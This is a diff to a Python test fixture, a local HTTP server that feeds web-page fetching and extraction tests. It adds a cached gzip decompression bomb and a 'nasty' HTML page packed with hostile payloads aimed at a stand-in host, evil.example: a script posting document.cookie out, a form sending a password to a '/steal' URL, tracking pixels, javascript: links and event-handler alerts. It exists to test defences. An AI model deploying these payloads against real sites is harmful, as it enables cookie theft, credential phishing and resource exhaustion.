@@ -4,6 +4,7 @@ Used by the fetching and capture tests (and bench/capture.py): it listens on a
 free 127.0.0.1 port, which the tests list in FETCH_ALLOWED_HOSTS.
 """
 
+import functools
 import gzip
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -35,7 +36,29 @@ def make_pdf(lines):
     return bytes(out)
 
 
+@functools.cache
+def bomb():
+    """64 MB of zeros in about 64 kB of gzip (made once: compressing it takes a while)."""
+    return gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)
+
+
 PDF_LINES = ["Annual report 2025", "The desk checked 1,204 claims in 2025.", "Of these, 312 were rated false."]
+
+
+NASTY = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Nasty page</title>
+<base href="https://evil.example/">
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<script src="https://evil.example/x.js"></script><script>window.parent.postMessage(document.cookie, "*")</script>
+<style>body { color: #222; }</style></head>
+<body onload="alert(1)"><article><h1 onclick="alert(2)">Nasty page</h1>
+<p>The desk checked 1,204 claims in 2025 and this paragraph is long enough to be the main text of the page for the extractor.</p>
+<a href="javascript:alert(3)">a javascript link</a> <a href="https://example.org/">a plain link</a>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
+<svg onload="alert(4)"><circle r="4"/></svg><img src="https://evil.example/pixel.gif" onerror="alert(5)">
+<form action="https://evil.example/steal"><input name="password"></form>
+<noscript><img src="https://evil.example/noscript.gif"></noscript>
+</article></body></html>"""
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -85,9 +108,7 @@ class Handler(BaseHTTPRequestHandler):
         if path == "/gzip":
             return self._send(200, gzip.compress((PAGES / "en_pbs_census.html").read_bytes()), headers=[("Content-Encoding", "gzip")])
         if path == "/bomb":
-            # 64 MB of zeros in about 64 kB of gzip.
-            body = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)
-            return self._send(200, body, headers=[("Content-Encoding", "gzip")])
+            return self._send(200, bomb(), headers=[("Content-Encoding", "gzip")])
         if path == "/lying":
             # Says HTML, sends a PNG-like binary.
             return self._send(200, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 16, "text/html; charset=utf-8")
@@ -123,6 +144,23 @@ class Handler(BaseHTTPRequestHandler):
                 pass
             self.close_connection = True
             return None
+        if self.path.startswith("/save/"):
+            # A fake Save Page Now: it redirects to the snapshot, which names itself in Content-Location.
+            return self._send(302, headers=[("Location", "/web/20261202101500/" + self.path.removeprefix("/save/"))])
+        if self.path.startswith("/web/"):
+            return self._send(200, b"<h1>Wayback snapshot</h1>", headers=[("Content-Location", self.path)])
+        if self.path.startswith("/save-broken/"):
+            return self._send(503, b"<h1>Try again later</h1>")
+        if path == "/nasty":
+            # Every way a page can try to run something or call home.
+            return self._send(200, NASTY.encode(), "text/html; charset=utf-8")
+        if path == "/zh-gbk":
+            # Chinese in GBK, named only in the Content-Type header.
+            return self._send(
+                200,
+                (PAGES / "zh_zaobao_chips.html").read_text().replace('charset="utf-8"', "").encode("gbk", "replace"),
+                "text/html; charset=gbk",
+            )
         if path == "/silent":
             stop.wait(30)
             self.close_connection = True
@@ -147,6 +185,7 @@ class PageServer:
         return self.httpd.requests
 
     def __enter__(self):
+        bomb()  # before serving, so that no request waits for it
         self.thread.start()
         return self
 
